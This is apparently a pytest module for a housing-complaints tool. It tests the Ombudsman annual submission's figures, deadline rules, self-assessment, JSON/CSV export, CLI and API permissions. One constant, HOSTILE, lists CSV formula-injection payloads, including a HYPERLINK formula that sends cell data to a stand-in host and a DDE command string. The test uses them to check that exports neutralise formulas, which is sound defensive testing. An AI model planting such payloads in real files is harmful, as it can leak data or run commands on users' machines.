"""The Ombudsman's annual submission: built from the report, its deadline, JSON, CSV, CLI, API.

The year is the hand-built 2025/26 of ``tests/test_reports.py`` (twelve Connexus
complaints, every figure counted by hand there), on SQLite only: the submission takes its
figures from the report, whose SQL is already run on both backends by that module.
Connexus has 9,800 LCRA and 1,200 LCHO homes at 31 March 2026 (``[homes.2025]``).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
import pytest_asyncio
from click.testing import CliRunner
from pydantic import ValidationError
from sqlalchemy import Engine

from complaints.api.app import create_app, make_context
from complaints.cli import cli
from complaints.db import make_engine
from complaints.policies import load_policy
from complaints.reports import Period, ReportOptions, build_report, render
from complaints.reports.model import RefusalFigures, RemedyRow, Report
from complaints.reports.submission import (
    POLICY_CHECKED,
    ProvisionStatus,
    Submission,
    SubmissionError,
    build_submission,
    submission_deadline,
)
from complaints.reports.submission_render import submission_csv, submission_json
from complaints.settings import Settings
from tests.api_support import seed_staff
from tests.test_reports import AS_OF, POLICY, YEAR, load

D = dt.date
ARGS = ["--year", "2025/26", "--as-of", AS_OF.isoformat()]
#: Texts a spreadsheet would run as formulas (a ground, a remedy kind, a landlord's name).
HOSTILE = ['=HYPERLINK("https://evil.invalid/?"&A1,"Open")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)"]


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The hand-built year in a fresh SQLite database."""
    database = f"sqlite:///{(tmp_path_factory.mktemp('submission') / 'c.db').as_posix()}"
    load(database)
    return database


@pytest.fixture(scope="module")
def engine(url: str) -> Iterator[Engine]:
    """An engine on the year's database."""
    made = make_engine(url)
    yield made
    made.dispose()


@pytest.fixture(scope="module")
def year(engine: Engine) -> Report:
    """The 2025/26 report with the evidence pack, homes from the policy (11,000)."""
    return build_report(engine, ReportOptions(YEAR, POLICY, as_of=AS_OF), evidence=True)


@pytest.fixture(scope="module")
def made(year: Report) -> Submission:
    """The submission built from that report under the Connexus policy."""
    return build_submission(year, POLICY)


def rows(text: str) -> list[list[str]]:
    """The rows of a CSV document."""
    return list(csv.reader(io.StringIO(text)))


# -- the figures ---------------------------------------------------------------------------


def test_every_figure_is_the_reports(made: Submission, year: Report) -> None:
    """CH01, strict CH02, refusals, referrals, remedies and orders are the report's own."""
    for stage, ch01, ch02, ack in zip(made.stages, year.ch01, year.ch02,
                                      year.acknowledgements, strict=True):
        assert (stage.received, stage.per_1000_homes) == (ch01.received, ch01.per_1000_homes)
        assert (stage.responded, stage.within_timescales, stage.pct_within_timescales) == (
            ch02.responses, ch02.within_code, ch02.pct_within_code)
        assert (stage.acknowledged, stage.acknowledged_within_limit) == (
            ack.acknowledged, ack.within_limit)
    assert [(t.tenure, t.homes, [(s.received, s.responded, s.within_timescales)
                                 for s in t.stages]) for t in made.tenures] == [
        (t.tenure, t.homes, [(c1.received, c2.responses, c2.within_code)
                             for c1, c2 in zip(t.ch01, t.ch02, strict=True)])
        for t in year.tenures]
    refused = {r.kind: r for r in year.refusals}
    assert made.complaints_refused.by_ground == refused["complaint"].by_ground
    assert made.escalations_refused.by_ground == refused["escalation"].by_ground
    assert made.ombudsman.referrals == year.ombudsman.referred
    assert made.ombudsman.orders_made == year.ombudsman_orders.made
    assert made.remedies == year.remedies and made.resolution == year.resolution
    assert made.financial_remedies.offered == year.remedy_payments.offered


def test_hand_worked_values(made: Submission) -> None:
    """Stage 1: 11 received, 5 of 8 within; stage 2: 2 received, 1 of 2; H and J refused."""
    # Counted by hand in tests/test_reports.py: 12 received less H excluded = 11 (1.00 per
    # 1,000 of 11,000 homes); stage 2 requested I, K (J refused) = 2 (0.18). Strict CH02:
    # A, C, I, J, K of 8 stage 1 responses; I of 2 stage 2 responses.
    assert [(s.stage, s.received, s.per_1000_homes, s.responded, s.within_timescales,
             s.pct_within_timescales) for s in made.stages] == [
        (1, 11, 1.0, 8, 5, 62.5), (2, 2, 0.18, 2, 1, 50.0)]
    assert (made.homes, made.homes_by_tenure["lcra"], made.homes_by_tenure["lcho"]) == (
        11_000, 9_800, 1_200)
    assert (made.complaints_logged, made.complaints_excluded,
            made.complaints_withdrawn) == (12, 1, 1)
    assert (made.complaints_refused.cases, made.complaints_refused.by_ground) == (
        1, {"older_than_12_months": 1, "previously_considered": 1})
    assert (made.escalations_refused.cases, made.escalations_refused.by_ground) == (
        1, {"outside_escalation_window": 1})
    assert made.ombudsman.referrals == 1  # I, September 2025
    assert (made.remedies_total_pence, made.financial_remedies.offered) == (42_550, 3)
    assert (made.reporting_year, made.period_start, made.period_end) == (
        "2025/26", D(2025, 4, 1), D(2026, 3, 31))


def test_the_publications_are_left_for_the_landlord(made: Submission) -> None:
    """The report's and the governing body's response's addresses are empty placeholders."""
    assert made.publications.annual_report_url == ""
    assert made.publications.governing_body_response_url == ""
    assert any("8.1(d)" in item for item in made.to_complete)


# -- the deadline --------------------------------------------------------------------------


@pytest.mark.parametrize(("homes", "more", "rule"), [
    (999, False, "six months after the financial year end"),
    (1000, False, "six months after the financial year end"),
    (1001, True, "30 September"),
])
def test_30_september_is_for_more_than_1000_homes(year: Report, homes: int, more: bool,
                                                  rule: str) -> None:
    """"Over 1,000 homes" submit by 30 September: 1,000 itself follows the six-month rule."""
    made = build_submission(year.model_copy(update={"homes": homes}), POLICY)
    deadline = made.deadline
    assert (deadline.homes, deadline.more_than_1000_homes, deadline.rule) == (homes, more, rule)
    # Six months after 31 March is 30 September too: only the rule differs.
    assert deadline.due == D(2026, 9, 30) and deadline.must_submit
    assert f"{homes:,} homes" in deadline.statement
    assert ("more than 1,000: it must submit" in deadline.statement) is more


def test_the_six_month_rule_counts_from_the_year_end() -> None:
    """Six months after a month's last day is that month's last day; 30 September follows."""
    assert submission_deadline("L", D(2025, 12, 31), 500).due == D(2026, 6, 30)
    assert submission_deadline("L", D(2026, 8, 31), 500).due == D(2027, 2, 28)
    assert submission_deadline("L", D(2025, 12, 31), 5000).due == D(2026, 9, 30)
    assert submission_deadline("L", D(2026, 10, 31), 5000).due == D(2027, 9, 30)


def test_no_homes_or_a_part_year_is_refused(year: Report) -> None:
    """Without homes the rule cannot be chosen; a quarter has no annual submission."""
    with pytest.raises(SubmissionError, match="--homes"):
        build_submission(year.model_copy(update={"homes": 0}), POLICY)
    quarter = year.model_copy(update={"period_start": D(2025, 4, 1),
                                      "period_end": D(2025, 6, 30), "period_label": "Q1"})
    with pytest.raises(SubmissionError, match="reporting year"):
        build_submission(quarter, POLICY)


# -- the self-assessment -------------------------------------------------------------------


def test_self_assessment_from_the_policy_check_with_the_records(made: Submission,
                                                                year: Report) -> None:
    """Connexus meets every provision checked; 6.2 carries the evidence pack's records."""
    items = {i.provision: i for i in made.self_assessment}
    assert year.evidence is not None
    evidence = {e.provision: e for e in year.evidence}
    assert set(POLICY_CHECKED) <= set(items)
    assert all(items[p].status is ProvisionStatus.COMPLIES for p in POLICY_CHECKED)
    assert (items["6.2"].records_cases, items["6.2"].records_met) == (
        evidence["6.2"].cases, evidence["6.2"].met)
    # 6.13 is measured from the records but not by the policy check: the landlord confirms.
    assert (items["6.13"].status, items["6.13"].basis) == (ProvisionStatus.TO_CONFIRM,
                                                           "landlord")
    order = [i.provision for i in made.self_assessment]
    assert order.index("6.5") < order.index("6.10") < order.index("6.11")


def test_a_policy_looser_than_the_code_does_not_comply(year: Report) -> None:
    """Connect 2017's informal stage and third stage are 5.2 and 5.3, with the reason."""
    made = build_submission(year, load_policy("connect-2017"))
    items = {i.provision: i for i in made.self_assessment}
    assert items["5.2"].status is ProvisionStatus.DOES_NOT_COMPLY
    assert "informal stage" in items["5.2"].detail
    assert items["5.3"].status is ProvisionStatus.DOES_NOT_COMPLY
    assert items["6.3"].status is ProvisionStatus.COMPLIES


# -- JSON and CSV --------------------------------------------------------------------------


def test_json_round_trips_and_meets_its_schema(made: Submission) -> None:
    """The JSON reads back to the same submission and has exactly its schema's fields."""
    text = submission_json(made)
    assert Submission.model_validate_json(text) == made
    data = json.loads(text)
    schema = Submission.model_json_schema()
    assert set(data) == set(schema["properties"])
    assert {"deadline", "stages", "tenures", "self_assessment"} <= set(schema["required"])
    deadline = schema["$defs"]["Deadline"]["properties"]
    assert (deadline["due"]["format"], sorted(deadline["rule"]["enum"])) == (
        "date", ["30 September", "six months after the financial year end"])
    data["deadline"]["due"] = "soon"
    with pytest.raises(ValidationError, match="due"):
        Submission.model_validate(data)
    data["deadline"]["due"], data["unexpected"] = "2026-09-30", 1
    with pytest.raises(ValidationError, match="unexpected"):
        Submission.model_validate(data)


def test_csv_is_one_field_and_value_per_row(made: Submission) -> None:
    """Two columns; lists keyed by stage, tenure and provision; empty placeholders kept."""
    found = rows(submission_csv(made))
    assert found[0] == ["field", "value"]
    assert all(len(row) == 2 for row in found)
    for expected in (["stages[1].within_timescales", "5"], ["stages[2].received", "2"],
                     ["deadline.due", "2026-09-30"], ["deadline.more_than_1000_homes", "true"],
                     ["tenures[lcho].homes", "1200"], ["self_assessment[6.2].status",
                                                       "complies"],
                     ["publications.governing_body_response_url", ""],
                     ["complaints_refused.by_ground.older_than_12_months", "1"]):
        assert expected in found


def test_no_csv_cell_can_run_as_a_formula(year: Report) -> None:
    """Hostile grounds, remedy kinds and names come out quoted; numbers stay numbers."""
    hostile = year.model_copy(update={
        "landlord": HOSTILE[0],
        "refusals": [RefusalFigures(kind="complaint", cases=1, by_ground={h: 1
                                                                         for h in HOSTILE})],
        "remedies": [RemedyRow(kind=h, offered=1, amount_pence=-5) for h in HOSTILE]})
    cells = [cell for row in rows(submission_csv(build_submission(hostile, POLICY)))
             for cell in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
             and not c.lstrip("-").replace(".", "", 1).isdigit()]
    assert risky == []
    assert "'" + HOSTILE[0] in cells
    assert "-5" in cells  # a negative number is left a number


# -- the report's section ------------------------------------------------------------------


def test_the_annual_report_has_the_submission_section(year: Report, made: Submission,
                                                      engine: Engine) -> None:
    """The year's report summarises the submission and its deadline; a quarter's does not."""
    text = render(year, "md")
    section = text[text.index("## The Ombudsman's annual submission"):text.index("## Method")]
    assert made.deadline.statement in section
    assert "| Stage 1 within the Code timescales (CH02, strict) | 62.5% (5 of 8) |" in section
    assert "| Submission due | 30 September 2026 (more than 1,000 homes) |" in section
    quarter = build_report(engine, ReportOptions(Period(D(2025, 4, 1), D(2025, 6, 30)),
                                                 POLICY, as_of=AS_OF))
    assert "annual submission" not in render(quarter, "md").split("## Method")[0]


# -- the command ---------------------------------------------------------------------------


def test_the_command_writes_the_file_and_exits_0(url: str, made: Submission,
                                                  tmp_path: Path) -> None:
    """--out x.csv writes the CSV; with no --out the JSON on stdout is the same submission."""
    target = tmp_path / "out" / "submission.csv"
    result = CliRunner().invoke(cli, ["report", "submission", *ARGS, "--database-url", url,
                                      "--out", str(target)])
    assert result.exit_code == 0, result.output
    assert target.read_text(encoding="utf-8") == submission_csv(made)
    assert "due 2026-09-30" in result.stderr
    printed = CliRunner().invoke(cli, ["report", "submission", *ARGS, "--database-url", url])
    assert printed.exit_code == 0
    assert Submission.model_validate_json(printed.stdout) == made


def test_the_report_command_still_runs_without_a_subcommand(url: str) -> None:
    """`complaints report --year ...` is still the report (the group runs as a command)."""
    result = CliRunner().invoke(cli, ["report", *ARGS, "--database-url", url])
    assert result.exit_code == 0
    assert result.stdout.startswith("# Complaints performance report: Connexus, 2025/26")


@pytest.mark.parametrize("year_text", ["2025/27", "last year"])
def test_a_bad_year_is_one_error_line(url: str, year_text: str) -> None:
    """A year that is not a reporting year fails with one line naming --year, no usage."""
    result = CliRunner().invoke(cli, ["report", "submission", "--year", year_text,
                                      "--database-url", url])
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.exit_code != 0
    assert len(lines) == 1 and lines[0].startswith("Error: ") and "--year" in lines[0]


def test_a_policy_without_homes_is_one_error_line(url: str, tmp_path: Path) -> None:
    """With no homes figure the command says to pass --homes, in one line."""
    policy = tmp_path / "no-homes.toml"
    source = (Path(__file__).parents[1] / "complaints" / "policies" / "code-2024.toml")
    policy.write_text(source.read_text(encoding="utf-8").replace(
        "homes_owned = 10000", "homes_owned = 0"), encoding="utf-8")
    result = CliRunner().invoke(cli, ["report", "submission", *ARGS, "--database-url", url,
                                      "--policy", str(policy)])
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.exit_code == 1
    assert len(lines) == 1 and "--homes" in lines[0]


# -- the API -------------------------------------------------------------------------------


@dataclass
class Api:
    """The API in-process, and a service token per member of staff."""

    http: httpx.AsyncClient
    tokens: dict[str, str]

    def auth(self, staff_id: str) -> dict[str, str]:
        """The Authorization header of ``staff_id``."""
        return {"Authorization": f"Bearer {self.tokens[staff_id]}"}


@pytest_asyncio.fixture
async def api(url: str, tmp_path: Path) -> AsyncIterator[Api]:
    """The API on the year's database (no Temporal: reports never reach it), staff seeded."""
    settings = Settings(data_dir=tmp_path, database_url=url, smtp_host=None,
                        webhook_url=None, _env_file=None)  # type: ignore[call-arg]
    context = make_context(settings)
    context.today = lambda: AS_OF
    tokens = seed_staff(context)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_app(context=context)),
                                 base_url="http://api") as http:
        yield Api(http, tokens)
    context.engine.dispose()
    context.reader.dispose()


async def test_the_api_gives_the_submission_to_whoever_may_read_reports(
        api: Api, made: Submission) -> None:
    """JSON and CSV with their content types for a viewer; 403 for integration; 422 bad year."""
    path = "/api/v1/reports/submission"
    as_json = await api.http.get(path, params={"year": "2025/26"}, headers=api.auth("view-1"))
    assert as_json.status_code == 200, as_json.text
    assert as_json.headers["content-type"] == "application/json"
    assert Submission.model_validate_json(as_json.text) == made
    as_csv = await api.http.get(path, params={"year": "2025/26", "format": "csv"},
                                headers=api.auth("view-1"))
    assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"
    assert as_csv.text == submission_csv(made)
    denied = await api.http.get(path, params={"year": "2025/26"}, headers=api.auth("int-1"))
    assert denied.status_code == 403
    assert denied.headers["content-type"].startswith("application/problem+json")
    bad = await api.http.get(path, params={"year": "last year"}, headers=api.auth("view-1"))
    assert bad.status_code == 422 and "2025/26" in bad.json()["detail"]
